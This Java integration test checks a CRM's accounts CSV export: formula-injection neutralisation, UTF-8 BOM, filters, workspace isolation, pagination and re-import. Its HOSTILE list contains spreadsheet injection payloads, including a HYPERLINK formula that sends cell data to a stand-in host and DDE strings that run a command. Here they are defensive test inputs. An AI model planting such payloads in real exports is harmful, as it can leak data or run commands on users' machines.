package io.kizuna.accounts;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import io.kizuna.TestHttp;
import io.kizuna.shared.WorkspaceId;
import io.kizuna.workspace.NewWorkspace;
import io.kizuna.workspace.TokenScope;
import io.kizuna.workspace.WorkspaceManagement;
import io.kizuna.workspace.AccessKeys;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;

/** The accounts CSV: hostile cells neutralised, UTF-8 with BOM, filters honoured, every account exactly once. */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class AccountExportIT {

	static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
			"-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "株式会社 \"引用\", カンマ\n改行");

	@LocalServerPort
	int port;

	@Autowired
	WorkspaceManagement workspaces;

	@Autowired
	AccessKeys accessKeys;

	@Autowired
	AccountManagement accounts;

	@Autowired
	io.kizuna.segments.TouchModelManagement touch;

	@Test
	void hostileNamesAreNeutralisedAndEverythingElseRoundTrips() throws Exception {
		String run = UUID.randomUUID().toString().substring(0, 8);
		WorkspaceId workspace = workspaces.create(new NewWorkspace("exp-" + run, "Exp", "JPY", "Asia/Tokyo", "ja")).id();
		WorkspaceId other = workspaces.create(new NewWorkspace("exp-o-" + run, "Other", "JPY", "Asia/Tokyo", "ja")).id();
		for (int i = 0; i < HOSTILE.size(); i++) {
			accounts.saveAccount(workspace, "h-" + i, new AccountDraft(HOSTILE.get(i), "=cmd.example", null, "enterprise",
					null, null, null, Map.of()));
		}
		accounts.saveAccount(other, "o-1", new AccountDraft("Secret of other", null, null, "enterprise", null, null, null,
				Map.of()));
		String token = accessKeys.issueApiToken(workspace, "exp", TokenScope.READ).secret();

		HttpResponse<byte[]> response = download("/api/v1/exports/accounts.csv?tier=enterprise", token);
		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(response.headers().firstValue("Content-Type").orElse("")).startsWith("text/csv");
		assertThat(response.headers().firstValue("Content-Disposition").orElse("")).contains("accounts.csv");
		byte[] body = response.body();
		assertThat(new byte[] { body[0], body[1], body[2] }).as("UTF-8 byte-order mark")
			.containsExactly(0xEF, 0xBB, 0xBF);
		List<CSVRecord> rows = parse(body);
		assertThat(rows).hasSize(HOSTILE.size());
		for (CSVRecord row : rows) {
			String original = HOSTILE.get(Integer.parseInt(row.get("external_id").substring(2)));
			String name = row.get("name");
			if ("=+-@\t\r＝".indexOf(original.charAt(0)) >= 0) {
				assertThat(name).as(original).isEqualTo("'" + original);
			}
			else {
				assertThat(name).as("harmless cells are unchanged, quotes, commas and newlines included").isEqualTo(original);
			}
			assertThat(row.get("domain")).isEqualTo("'=cmd.example");
		}
		assertThat(new String(body, StandardCharsets.UTF_8)).doesNotContain("Secret of other");
		assertThat(parse(download("/api/v1/exports/accounts.csv?tier=smb", token).body())).isEmpty();
		assertThat(download("/api/v1/exports/accounts.csv", "kzt_wrong").statusCode()).isEqualTo(401);
	}

	@Test
	void largeExportsArriveWholeInListOrderAcrossKeysetPages() throws Exception {
		String run = UUID.randomUUID().toString().substring(0, 8);
		WorkspaceId workspace = workspaces.create(new NewWorkspace("exp-l-" + run, "Large", "JPY", "Asia/Tokyo", "ja")).id();
		// More than two keyset pages, with names that tie so the account id decides the order.
		for (int i = 0; i < 1_207; i++) {
			accounts.saveAccount(workspace, String.format("acct-%05d", i), new AccountDraft("Same name " + (i % 3), null,
					null, "smb", null, null, null, Map.of()));
		}
		String token = accessKeys.issueApiToken(workspace, "exp", TokenScope.READ).secret();
		List<CSVRecord> rows = parse(download("/api/v1/exports/accounts.csv", token).body());
		assertThat(rows).hasSize(1_207);
		assertThat(rows.stream().map(r -> r.get("external_id")).distinct().count()).isEqualTo(1_207);
		List<String> names = new ArrayList<>(rows.stream().map(r -> r.get("name")).toList());
		assertThat(names).isSorted();
		assertThat(parse(download("/api/v1/exports/accounts.csv?q=" + "Same+name+2", token).body())).hasSize(402);
	}

	/**
	 * The touch level as the touch model stored it (its code, as the API names codes), tech-touch where the model has
	 * not placed the account; an export imported again leaves it out of the custom attributes.
	 */
	@Test
	void theTouchLevelIsTheLastColumnAndIsNoAttributeWhenImportedAgain() throws Exception {
		String run = UUID.randomUUID().toString().substring(0, 8);
		WorkspaceId workspace = workspaces.create(new NewWorkspace("exp-t-" + run, "Touch", "JPY", "Asia/Tokyo", "ja")).id();
		accounts.saveAccount(workspace, "t-ent", new AccountDraft("Ent KK", null, null, "enterprise", null, null, null,
				Map.of("region", "kanto")));
		accounts.saveAccount(workspace, "t-mid", new AccountDraft("Mid KK", null, null, "mid-market", null, null, null,
				Map.of()));
		accounts.saveAccount(workspace, "t-smb", new AccountDraft("Smb KK", null, null, "smb", null, null, null, Map.of()));
		touch.save(workspace, List.of(new io.kizuna.segments.TouchLevel("high", "ハイタッチ", "High-touch",
				"tier = \"enterprise\""), new io.kizuna.segments.TouchLevel("mid", "ロータッチ", "Low-touch",
						"tier = \"mid-market\"")));
		String token = accessKeys.issueApiToken(workspace, "exp", TokenScope.READ_WRITE).secret();

		byte[] body = download("/api/v1/exports/accounts.csv", token).body();
		String header = new String(body, StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
		assertThat(header).isEqualTo("\uFEFFexternal_id,name,domain,industry,tier,lifecycle_stage,parent_external_id,"
				+ "owner_user_id,created_at,updated_at,touch_level");
		Map<String, String> levels = new java.util.TreeMap<>();
		parse(body).forEach(r -> levels.put(r.get("external_id"), r.get("touch_level")));
		assertThat(levels).containsExactly(Map.entry("t-ent", "high"), Map.entry("t-mid", "mid"),
				Map.entry("t-smb", "tech"));
		assertThat(parse(download("/api/v1/exports/accounts.csv?tier=enterprise", token).body()))
			.singleElement().satisfies(r -> assertThat(r.get("touch_level")).isEqualTo("high"));

		String csv = new String(body, StandardCharsets.UTF_8).substring(1);
		HttpResponse<String> imported = HttpClient.newHttpClient()
			.send(HttpRequest.newBuilder(URI.create(new TestHttp(port).url("/api/v1/imports/accounts")))
				.header("Authorization", "Bearer " + token)
				.header("Content-Type", "multipart/form-data; boundary=XX")
				.POST(HttpRequest.BodyPublishers.ofString("--XX\r\nContent-Disposition: form-data; name=\"file\"; "
						+ "filename=\"accounts.csv\"\r\nContent-Type: text/csv\r\n\r\n" + csv + "\r\n--XX--\r\n",
						StandardCharsets.UTF_8))
				.build(), HttpResponse.BodyHandlers.ofString());
		assertThat(imported.statusCode()).as(imported.body()).isEqualTo(200);
		Account ent = accounts.account(workspace, "t-ent");
		assertThat(ent.attributes()).containsEntry("region", "kanto").doesNotContainKey("touch_level");
		assertThat(ent.tier()).isEqualTo("enterprise");
	}

	private HttpResponse<byte[]> download(String path, String token) throws Exception {
		return HttpClient.newHttpClient()
			.send(HttpRequest.newBuilder(URI.create(new TestHttp(port).url(path)))
				.header("Authorization", "Bearer " + token)
				.build(), HttpResponse.BodyHandlers.ofByteArray());
	}

	private static List<CSVRecord> parse(byte[] body) throws Exception {
		String text = new String(body, StandardCharsets.UTF_8);
		assertThat(text).startsWith("\uFEFF");
		return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
			.parse(new StringReader(text.substring(1)))
			.getRecords();
	}
}
